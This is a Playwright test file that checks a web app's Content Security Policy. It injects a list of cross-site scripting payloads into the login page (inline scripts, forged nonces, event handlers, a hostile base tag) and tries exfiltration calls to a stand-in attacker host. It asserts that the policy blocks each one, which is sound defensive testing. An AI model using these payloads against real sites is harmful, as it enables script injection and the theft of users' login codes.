import type { Page } from "playwright/test";
import { expect, test } from "../fixtures";
import { logIn, readInviteCode } from "./journeys";

/** Returns the nonce in an answer's policy. */
const nonceIn = (policy: string | undefined) => /script-src 'nonce-([^']+)'/.exec(policy ?? "")?.[1];

/** Collects the directives that the page's policy has enforced, one for each violation. Must be called before the page is opened. */
async function listenForViolations(page: Page): Promise<string[]> {
  const forbidden: string[] = [];
  await page.exposeFunction("tellForbidden", (what: string) => forbidden.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      (window as unknown as { tellForbidden: (what: string) => void }).tellForbidden(effectiveDirective);
    });
  });
  return forbidden;
}

test("a script that was injected into a page in any form does not run, and the page's own scripts do", async ({
  page,
}) => {
  const forbidden = await listenForViolations(page);
  const injected = [
    "<script>window.injected = 'inline'</script>",
    "<script nonce=''>window.injected = 'an empty nonce'</script>",
    "<script nonce='AAAAAAAAAAAAAAAAAAAAAA=='>window.injected = 'another nonce'</script>",
    "<script src='/injected.js'></script>",
    "<script src='data:text/javascript,window.injected=1'></script>",
    "<img src='/nothing.png' onerror=\"window.injected = 'a handler'\">",
    "<svg onload=\"window.injected = 'another handler'\"></svg>",
    "<iframe srcdoc=\"<script>parent.injected = 'a frame'</script>\"></iframe>",
    "<object data='data:text/html,<script>parent.injected=1</script>'></object>",
    "<base href='https://evil.example/'>",
    "<style>body { display: none }</style>",
    "<p style='position: fixed; inset: 0'>Your code, please:</p>",
  ];
  // Our own origin may serve scripts that don't belong to the page, such as an uploaded file.
  await page.route("/injected.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: "window.injected = 'our own origin'" }),
  );
  await page.route("/login", async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replace(/<body[^>]*>/, (body) => body + injected.join(""));
    await route.fulfill({ response: answer, body });
  });
  await page.goto("/login");
  await page.getByLabel("Номер телефона").fill("12");
  await page.getByRole("button", { name: "Получить код" }).click();
  await expect(page.getByText("не похоже на номер")).toBeVisible();
  expect(await page.evaluate(() => "__next_f" in window)).toBe(true);
  expect(await page.evaluate("window.injected")).toBeUndefined();
  const directives = ["script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "base-uri"];
  await expect.poll(() => forbidden).toEqual(expect.arrayContaining(directives));
});

test("a page can't send its input to another site", async ({ page }) => {
  const forbidden = await listenForViolations(page);
  const reached: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  await page.goto("/login");
  await page.evaluate(async () => {
    await fetch("https://evil.example/?code=1").catch(() => undefined);
    navigator.sendBeacon("https://evil.example/?code=2");
    new Image().src = "https://evil.example/?code=3";
    const form = document.createElement("form");
    form.action = "https://evil.example/?code=4";
    document.body.append(form);
    form.submit();
  });
  await expect.poll(() => [...new Set(forbidden)].sort()).toEqual(["connect-src", "form-action", "img-src"]);
  expect(reached).toEqual([]);
});

test("two answers have two nonces, each of 128 bits, and all scripts of an answer carry its own", async ({
  request,
}) => {
  const nonces = new Set<string>();
  for (const path of ["/login", "/login", "/docs", "/nowhere", "/i/ZZZZ99"]) {
    const answer = await request.get(path);
    const nonce = nonceIn(answer.headers()["content-security-policy"]) ?? "";
    expect(Buffer.from(nonce, "base64"), path).toHaveLength(16);
    nonces.add(nonce);
    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) expect(script).toContain(`nonce="${nonce}"`);
  }
  expect(nonces.size).toBe(5);
});

test("a client can't choose the nonce", async ({ request }) => {
  const chosen = "AAAAAAAAAAAAAAAAAAAAAA==";
  const policy = `script-src 'nonce-${chosen}'`;
  for (const name of ["content-security-policy", "content-security-policy-report-only", "x-nonce"]) {
    const answer = await request.get("/login", { headers: { [name]: name === "x-nonce" ? chosen : policy } });
    expect(answer.headers()["content-security-policy"], name).not.toContain(chosen);
    expect(await answer.text(), name).not.toContain(chosen);
  }
});

test("requests of the reference work under its policy", async ({ page, phone, codeFor }) => {
  const forbidden = await listenForViolations(page);
  await page.goto("/login");
  await logIn(page, phone, codeFor);
  const inviteCode = await readInviteCode(page);
  await page.goto("/docs");
  const operation = page.locator(".opblock-get", { hasText: "/api/profile/" }).first();
  await operation.locator(".opblock-summary-control").click();
  await operation.getByRole("button", { name: "Try it out" }).click();
  await operation.getByRole("button", { name: "Execute" }).click();
  await expect(operation.locator(".live-responses-table")).toContainText(inviteCode);
  expect(forbidden).toEqual([]);
});
